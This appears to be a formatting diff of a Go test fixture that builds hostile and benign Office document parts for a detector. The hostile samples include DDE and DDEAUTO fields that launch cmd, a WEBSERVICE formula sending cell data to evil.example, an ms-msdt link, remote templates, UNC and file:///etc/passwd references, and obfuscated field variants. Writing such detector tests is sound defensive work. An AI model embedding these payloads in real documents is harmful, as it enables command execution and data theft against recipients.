@@ -29,18 +29,21 @@ func relationships(kind, target, mode string) string {
 
 // word returns the body of a text.
 func word(body string) string {
-	return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>` + body + `</w:p></w:body></w:document>`
+	return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>` + body +
+		`</w:p></w:body></w:document>`
 }
 
 // sheet returns a table with a formula.
 func sheet(formula string) string {
-	return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><f>` + formula + `</f></c></row></sheetData></worksheet>`
+	return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><f>` +
+		formula + `</f></c></row></sheetData></worksheet>`
 }
 
 // fieldOf returns a field whose instruction is spread over runs.
 func fieldOf(runs ...string) string {
 	const before, after = `<w:r><w:instrText xml:space="preserve">`, `</w:instrText></w:r>`
-	return `<w:r><w:fldChar w:fldCharType="begin"/></w:r>` + before + strings.Join(runs, after+before) + after + `<w:r><w:fldChar w:fldCharType="end"/></w:r>`
+	return `<w:r><w:fldChar w:fldCharType="begin"/></w:r>` + before + strings.Join(runs, after+before) + after +
+		`<w:r><w:fldChar w:fldCharType="end"/></w:r>`
 }
 
 // hostileOffice has parts of office documents that fetch or run.
@@ -52,7 +55,8 @@ func hostileOffice() []recipe {
 		part(officeExternal, "ole-object", relationships("oleObject", "mhtml:http://evil.example/x!x", "External")),
 		part(officeExternal, "frame", relationships("frame", "http://evil.example/", "External")),
 		part(officeExternal, "sub-document", relationships("subDocument", "file:///etc/passwd", "External")),
-		part(officeExternal, "strict-type", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="http://evil.example/" TargetMode="External"/></Relationships>`),
+		part(officeExternal, "strict-type",
+			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="http://evil.example/" TargetMode="External"/></Relationships>`),
 		part(officeExternal, "mode-lower-case", relationships("image", "http://evil.example/x.png", "external")),
 		part(officeExternal, "mode-spaces", relationships("image", "x.png", " External ")),
 		part(officeExternal, "mode-encoded", relationships("image", "http://evil.example/x.png", "E&#120;ternal")),
@@ -69,12 +73,14 @@ func hostileOffice() []recipe {
 		part(officeExternal, "climbs-escaped-twice", relationships("image", "%252e%252e/../../x", "")),
 		part(officeExternal, "climbs-backslash", relationships("image", `..\..\..\x`, "")),
 		part(officeExternal, "hyperlink-to-file", relationships("hyperlink", "file://evil.example/x", "External")),
-		part(officeExternal, "hyperlink-to-protocol", relationships("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")),
+		part(officeExternal, "hyperlink-to-protocol", relationships("hyperlink", "ms-msdt:/id PCWDiagnostic",
+			"External")),
 		part(officeExternal, "hyperlink-to-script", relationships("hyperlink", "java&#9;script:x", "External")),
 		part(officeExternal, "hyperlink-relative", relationships("hyperlink", "x.docx", "External")),
 		part(officeExternal, "html-part", relationships("aFChunk", "part.html", "")),
 		part(officeExternal, "external-book", relationships("externalLinkPath", "file:///x.xlsx", "External")),
-		part(officeExternal, "compatibility", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:AlternateContent><mc:Choice Requires="x"/></mc:AlternateContent></Relationships>`),
+		part(officeExternal, "compatibility",
+			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:AlternateContent><mc:Choice Requires="x"/></mc:AlternateContent></Relationships>`),
 
 		part(officeExternal, "field-dde", word(fieldOf(` DDE cmd "/c calc" `))),
 		part(officeExternal, "field-ddeauto", word(fieldOf(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`))),
@@ -82,16 +88,21 @@ func hostileOffice() []recipe {
 		part(officeExternal, "field-split", word(fieldOf(` D`, `DE`, `AUTO cmd`))),
 		part(officeExternal, "field-cdata", word(fieldOf(` D<![CDATA[DE]]>AUTO cmd`))),
 		part(officeExternal, "field-comment", word(fieldOf(` DD<!-- -->E cmd`))),
-		part(officeExternal, "field-simple", word(`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \d"/>`)),
+		part(officeExternal, "field-simple",
+			word(`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \d"/>`)),
 		part(officeExternal, "field-text", word(fieldOf(`INCLUDETEXT "\\\\evil.example\\x"`))),
 		part(officeExternal, "field-import", word(fieldOf(`IMPORT x`))),
 		part(officeExternal, "field-link", word(fieldOf(`LINK Excel.Sheet.8 "http://evil.example/x"`))),
-		part(officeExternal, "field-nested", word(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 </w:instrText></w:r>`+fieldOf(` DDE cmd`)+`<w:r><w:fldChar w:fldCharType="end"/></w:r>`)),
-		part(officeExternal, "field-deleted", word(`<w:r><w:fldChar w:fldCharType="begin"/><w:delInstrText> DDE x</w:delInstrText><w:fldChar w:fldCharType="end"/></w:r>`)),
-		part(officeExternal, "field-without-end", word(`<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>`)),
+		part(officeExternal, "field-nested",
+			word(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 </w:instrText></w:r>`+fieldOf(` DDE cmd`)+`<w:r><w:fldChar w:fldCharType="end"/></w:r>`)),
+		part(officeExternal, "field-deleted",
+			word(`<w:r><w:fldChar w:fldCharType="begin"/><w:delInstrText> DDE x</w:delInstrText><w:fldChar w:fldCharType="end"/></w:r>`)),
+		part(officeExternal, "field-without-end",
+			word(`<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>`)),
 		part(officeExternal, "field-without-begin", word(`<w:r><w:instrText>DDE x</w:instrText></w:r>`)),
 		part(officeExternal, "field-quoted", word(fieldOf(`"DDE" x`))),
-		part(officeExternal, "field-in-alternative", word(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="w99">`+fieldOf("DDE x")+`</mc:Choice></mc:AlternateContent>`)),
+		part(officeExternal, "field-in-alternative",
+			word(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="w99">`+fieldOf("DDE x")+`</mc:Choice></mc:AlternateContent>`)),
 
 		part(officeExternal, "formula-webservice", sheet(`WEBSERVICE("http://evil.example/"&amp;A1)`)),
 		part(officeExternal, "formula-prefix", sheet(`1+_xlfn.WEBSERVICE ("x")`)),
@@ -100,23 +111,35 @@ func hostileOffice() []recipe {
 		part(officeExternal, "formula-behind-string", sheet(`"a""b"&amp;WEBSERVICE("x")`)),
 		part(officeExternal, "formula-dde", sheet(`cmd|'/c calc'!A0`)),
 		part(officeExternal, "formula-image", sheet(`_xlfn.IMAGE("http://evil.example/x.png")`)),
-		part(officeExternal, "formula-name", `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">WEBSERVICE("x")</definedName></definedNames></workbook>`),
-		part(officeExternal, "web-query", `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><webPr url="http://evil.example/"/></connection></connections>`),
-		part(officeExternal, "database-query", `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><dbPr connection="Provider=x" command="y"/></connection></connections>`),
-		part(officeExternal, "text-query", `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><textPr sourceFile="\\evil.example\x"/></connection></connections>`),
-		part(officeExternal, "dde-link", `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`),
-		part(officeExternal, "external-book-element", `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>`),
-		part(officeExternal, "attached-template-element", `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`),
-		part(officeExternal, "linked-object", `<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Excel.Sheet.8"/>`),
-		part(officeExternal, "mail-merge", `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>`),
+		part(officeExternal, "formula-name",
+			`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">WEBSERVICE("x")</definedName></definedNames></workbook>`),
+		part(officeExternal, "web-query",
+			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><webPr url="http://evil.example/"/></connection></connections>`),
+		part(officeExternal, "database-query",
+			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><dbPr connection="Provider=x" command="y"/></connection></connections>`),
+		part(officeExternal, "text-query",
+			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><textPr sourceFile="\\evil.example\x"/></connection></connections>`),
+		part(officeExternal, "dde-link",
+			`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`),
+		part(officeExternal, "external-book-element",
+			`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>`),
+		part(officeExternal, "attached-template-element",
+			`<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`),
+		part(officeExternal, "linked-object",
+			`<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Excel.Sheet.8"/>`),
+		part(officeExternal, "mail-merge",
+			`<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>`),
 		part(officeExternal, "vml", `<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x.png"/>`),
-		part(officeExternal, "vml-alternative", `<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" o:althref="\\evil.example\x"/>`),
-		part(officeExternal, "action-file", `<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://hlinkfile"/>`),
+		part(officeExternal, "vml-alternative",
+			`<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" o:althref="\\evil.example\x"/>`),
+		part(officeExternal, "action-file",
+			`<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://hlinkfile"/>`),
 
 		part(active, "macros", relationships("vbaProject", "vbaProject.bin", "")),
 		part(active, "control", relationships("control", "activeX/activeX1.xml", "")),
 		part(active, "content-type", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`),
-		part(active, "action-program", `<a:hlinkHover xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/>`),
+		part(active, "action-program",
+			`<a:hlinkHover xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/>`),
 	}
 }
 
@@ -128,7 +151,8 @@ func benignOffice() []recipe {
 		part(officeExternal, "parent", relationships("customXml", "../customXml/item1.xml", "")),
 		part(officeExternal, "parents", relationships("drawing", "../../xl/drawings/drawing1.xml", "Internal")),
 		part(officeExternal, "from-root", relationships("styles", "/word/styles.xml", "")),
-		part(officeExternal, "fields", word(fieldOf(` PAGE `)+fieldOf(` HYPERLINK "https://example.org/" `)+fieldOf(` REF DDE `)+`<w:fldSimple w:instr=" DATE "/><w:r><w:t>DDEAUTO cmd</w:t></w:r>`)),
+		part(officeExternal, "fields",
+			word(fieldOf(` PAGE `)+fieldOf(` HYPERLINK "https://example.org/" `)+fieldOf(` REF DDE `)+`<w:fldSimple w:instr=" DATE "/><w:r><w:t>DDEAUTO cmd</w:t></w:r>`)),
 		part(officeExternal, "formulas", sheet(`SUM(A1:A2)&amp;"WEBSERVICE(1) a|b"&amp;'it''s|x'!A1&amp;IMAGES(1)`)),
 		part(active, "slide-actions", `<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://hlinkshowjump?jump=nextslide"/>`),
 	}
